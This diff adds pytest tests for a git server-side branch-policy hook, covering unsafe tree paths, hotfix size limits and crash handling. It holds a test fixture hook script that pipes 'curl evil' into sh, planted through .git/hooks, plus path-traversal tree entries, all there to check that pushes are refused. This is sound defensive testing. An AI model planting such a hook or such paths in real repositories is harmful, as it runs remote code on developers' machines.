@@ -108,6 +108,7 @@ def w(template: Path, tmp_path: Path) -> World:
 
 def fresh(tmp_path: Path, policy: Optional[str] = None, files: Optional[dict] = None) -> tuple[World, Repo]:
     """A new server whose main is created (bootstrap) with `policy` as its .branch-policy.yaml."""
+    (tmp_path / "fresh").mkdir()
     world = World(tmp_path / "fresh")
     repo = world.work
     content: dict[str, Union[str, bytes, None]] = {
@@ -814,3 +815,192 @@ def test_a_real_dvc_pointer_is_accepted(w: World) -> None:
     small = repo.commit("feat: dvc pointer by hand", {"data/val.csv.dvc": "outs:\n- md5: abc\n  path: val.csv\n"})
     accepted(push(repo, "feature-dataset"))
     assert w.server_sha("refs/heads/feature-dataset") == small
+
+
+# ======================================================================= 6. trees git will not check out
+
+# An entry git would not check out, as the path's raw names. (An empty name cannot even be pushed:
+# the client's pack-objects stops at "empty filename in tree entry".)
+UNSAFE: dict[str, list[bytes]] = {
+    "dotdot": [b"tasks", TASK.encode(), b"..", b"..", b"src", b"model.py"],
+    "dotgit": [b"tasks", TASK.encode(), b".git", b"hooks", b"post-checkout"],
+    "DOTGIT": [b"tasks", TASK.encode(), b".GIT", b"config"],
+    "dotgit-dot": [b"tasks", TASK.encode(), b".git.", b"config"],
+    "dotgit-space": [b"tasks", TASK.encode(), b".Git ", b"config"],
+    "dot": [b"tasks", TASK.encode(), b".", b"x.txt"],
+    "slash-in-a-name": [b"tasks", TASK.encode(), b"../../src/model.py"],
+}
+EVIL_HOOK = b"#!/bin/sh\ncurl evil | sh\n"
+
+
+def unsafe_commit(repo: Repo, parent: str, path: list[bytes], message: str = "task: results") -> str:
+    tree = put(repo, repo.sha(f"{parent}^{{tree}}"), path, b"100755", blob(repo, EVIL_HOOK))
+    return commit_tree(repo, tree, [parent], message)
+
+
+def refused_as_unsafe(result: Result) -> None:
+    """Refused by the hook (unsafe-path) or, before it, by git's own object checks
+    (receive.fsckObjects, which `policy install --server` turns on)."""
+    clean(result)
+    assert not result.ok, result.out
+    assert refused(result, "unsafe-path") or "fsck" in result.out, result.out
+
+
+@xfail("trees git will not check out: receive.fsckObjects")
+def test_install_turns_on_git_object_checks(w: World) -> None:
+    assert run(["git", "config", "--bool", "receive.fsckObjects"], w.server).out.strip() == "true"
+
+
+@xfail("trees git will not check out")
+def test_a_dotdot_tree_entry_never_reaches_main(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    tip = unsafe_commit(repo, task_commit(repo), UNSAFE["dotdot"])
+    merge = merge_commit(repo, main, tip, "task: adopt the run")
+    assert repo.git("ls-tree", "-r", "--name-only", merge).count(f"tasks/{TASK}/../../src/model.py") == 1
+    result = push(repo, f"{tip}:refs/heads/{TASK}", f"{merge}:refs/heads/main")
+    refused_as_unsafe(result)
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("trees git will not check out")
+def test_the_hook_itself_refuses_every_unsafe_path(w: World) -> None:
+    """Where git's object checks are off (a platform that does not turn them on), the hook names
+    each commit that brings a path git would not check out."""
+    assert run(["git", "config", "receive.fsckObjects", "false"], w.server).ok
+    repo = w.work
+    tip, made = task_commit(repo), {}
+    for name, path in UNSAFE.items():
+        tip = made[name] = unsafe_commit(repo, tip, path, f"task: results {name}")
+    result = push(repo, f"{tip}:refs/heads/{TASK}")
+    clean(result)
+    found = {v[1] for v in violations(result) if v[0] == "unsafe-path"}
+    assert {name: sha[:7] in found for name, sha in made.items()} == dict.fromkeys(made, True), result.out
+
+
+@xfail("trees git will not check out")
+def test_a_tree_with_duplicate_entries_is_refused(w: World) -> None:
+    repo = w.work
+    a, b = blob(repo, "a = 1\n"), blob(repo, BACKDOOR["src/backdoor.py"])
+    src = write_tree(repo, [(BLOB, b"model.py", a), (BLOB, b"model.py", b)], keep_order=True)
+    tree = put(repo, repo.sha("dev^{tree}"), [b"src"], TREE, src)
+    tip = commit_tree(repo, tree, [repo.sha("dev")], "feat: two models")
+    result = push(repo, f"{tip}:refs/heads/feature-twice")
+    clean(result)
+    assert not result.ok, result.out
+
+
+def test_paths_that_only_look_odd_are_accepted(w: World) -> None:
+    """Dot files, names with dots inside, .github: accepted, with git's object checks on too."""
+    assert run(["git", "config", "receive.fsckObjects", "true"], w.server).ok
+    repo = w.work
+    feature = craft(repo, [repo.sha("dev")], "chore(ci): workflow", {
+        ".github/workflows/ci.yml": "on: push\n", ".gitignore": "*.pyc\n", ".gitattributes": "*.py text\n",
+        "src/..hidden": "x\n", "src/a..b/c.py": "c = 1\n", "src/.git-blame-ignore-revs": "\n",
+    })  # fmt: skip
+    task = task_commit(repo, files={f"tasks/{TASK}/.gitkeep": "", f"tasks/{TASK}/..notes.txt": "x\n",
+                                    f"tasks/{TASK}/.hidden/log.txt": "x\n"})  # fmt: skip
+    accepted(push(repo, f"{feature}:refs/heads/feature-ci", f"{task}:refs/heads/{TASK}"))
+
+
+# ======================================================================= 7. hotfix-size
+
+
+def lines(n: int, tag: str = "x") -> str:
+    return "".join(f"{tag}{i} = {i}\n" for i in range(n))
+
+
+@xfail("hotfix-size: binary files")
+@pytest.mark.parametrize("how", ["one-nul-byte", "nul-and-newlines"])
+def test_a_binary_looking_change_still_counts(w: World, how: str) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    if how == "one-nul-byte":  # a 700-line rewrite that git calls binary
+        files: dict = {"src/model.py": "\0" + lines(700)}
+    else:
+        files = {"src/weights.dat": b"\0\n" * 300}
+    tip = craft(repo, [main], "fix: the model", files)
+    result = push(repo, f"{tip}:refs/heads/hotfix-model")
+    refused_with(result, "hotfix-size")
+    assert w.server_sha("refs/heads/hotfix-model") is None
+
+
+@xfail("hotfix-size: orphan hotfix (crash)")
+def test_an_orphan_hotfix_is_refused_clearly(w: World) -> None:
+    repo = w.work
+    root = craft(repo, [], "fix: start over", {"src/model.py": "class Model:\n    pass\n", "README.md": "# x\n"})
+    result = push(repo, f"{root}:refs/heads/hotfix-orphan")
+    refused_with(result, "hotfix-size")
+    assert w.server_sha("refs/heads/hotfix-orphan") is None
+
+
+def test_hotfix_size_refused_today(w: World) -> None:
+    """A hotfix that starts on a feature counts the feature's lines; a deletion counts; a
+    .gitattributes saying every file is binary changes nothing (a bare repository's diff does not
+    read attributes from the pushed tree)."""
+    repo = w.work
+    feature = craft(repo, [repo.sha("dev")], "feat: big", {"src/big.py": lines(100)})
+    fix = craft(repo, [feature], "fix: one line", {"src/big.py": lines(100) + "y = 1\n"})
+    refused_with(push(repo, f"{feature}:refs/heads/feature-big", f"{fix}:refs/heads/hotfix-on-feature"), "hotfix-size")
+    gone = craft(repo, [repo.sha("main")], "fix: drop the model", {"src/model.py": None, "src/layer.py": lines(60)})
+    refused_with(push(repo, f"{gone}:refs/heads/hotfix-gone"), "hotfix-size")
+    binary = craft(repo, [repo.sha("main")], "fix: the model", {".gitattributes": "* binary\n", "src/model.py": lines(700)})
+    refused_with(push(repo, f"{binary}:refs/heads/hotfix-binary"), "hotfix-size")
+
+
+def test_a_small_hotfix_into_main_and_dev_is_accepted(w: World) -> None:
+    repo = w.work
+    main, dev = repo.sha("main"), repo.sha("dev")
+    fix = craft(repo, [main], "fix: guard", {"src/model.py": "class Model:\n    pass\n" + "# guarded\n" * 10,
+                                              "data/table.dat": b"\0\x01\x02\n" * 5})  # fmt: skip
+    to_main = merge_commit(repo, main, fix, "fix: release the guard")
+    to_dev = merge_commit(repo, dev, fix, "Merge branch 'hotfix-guard' into dev")
+    accepted(push(repo, f"{fix}:refs/heads/hotfix-guard", f"{to_main}:refs/heads/main", f"{to_dev}:refs/heads/dev"))
+
+
+# ======================================================================= 8. crashes
+
+
+def root_squash(repo: Repo, files: dict) -> str:
+    """A merge onto main whose first parent is a root commit claiming to be a squash of dev."""
+    main = repo.sha("main")
+    root = craft(repo, [], f"feat: release dev\n\nSquash-Merge: dev {repo.sha('dev')}", files,
+                 base=main)  # fmt: skip
+    return commit_tree(repo, repo.sha(f"{root}^{{tree}}"), [root, main], "feat: merge the old main back")
+
+
+@xfail("crashes: a root commit with a Squash-Merge trailer")
+def test_a_root_commit_claiming_a_squash_is_judged(w: World) -> None:
+    repo = w.work
+    main = repo.sha("main")
+    result = push(repo, f"{root_squash(repo, BACKDOOR)}:refs/heads/main")
+    refused_with(result, "main-direct-commit")
+    assert w.server_sha("refs/heads/main") == main
+
+
+@xfail("crashes: on_error: allow")
+def test_a_crash_under_on_error_allow_lets_nothing_through(tmp_path: Path) -> None:
+    world, repo = fresh(tmp_path, "on_error: allow\n")
+    main = repo.sha("main")
+    result = push(repo, f"{root_squash(repo, {**BACKDOOR, 'models/net.pt': BIG})}:refs/heads/main")
+    refused_with(result, "main-direct-commit", "large-file")
+    assert world.server_sha("refs/heads/main") == main
+
+
+def test_odd_histories_are_judged_without_a_crash(w: World) -> None:
+    """(Judged today.) A squash record naming a blob, a tree, an unknown commit; a merge of an
+    unrelated history; a message in an unknown encoding; a gitlink in a task folder."""
+    repo = w.work
+    main, dev = repo.sha("main"), repo.sha("dev")
+    for claim in (blob(repo, "x\n"), repo.sha("dev^{tree}"), "1" * 40):
+        tip = craft(repo, [main], f"feat: release dev\n\nSquash-Merge: dev {claim}", {"src/data.py": "x = 1\n"})
+        refused_with(push(repo, f"{tip}:refs/heads/main"), "squash-merge")
+    stranger = craft(repo, [], "feat: another project", {"other.py": "x = 1\n"})
+    unrelated = commit_tree(repo, repo.sha("main^{tree}"), [main, stranger], "feat: adopt another project")
+    result = push(repo, f"{unrelated}:refs/heads/main")
+    clean(result)
+    assert refused(result, "merge-source") or refused(result, "main-direct-commit"), result.out
+    odd = raw_commit(repo, repo.sha("dev^{tree}"), [dev], b"feat: caf\xe9 au lait\n", b"encoding x-no-such-charset\n")
+    clean(push(repo, f"{odd}:refs/heads/feature-odd"))
+    sub = task_commit(repo, files={f"tasks/{TASK}/vendor": (GITLINK, "2" * 40)})
+    accepted(push(repo, f"{sub}:refs/heads/{TASK}"))
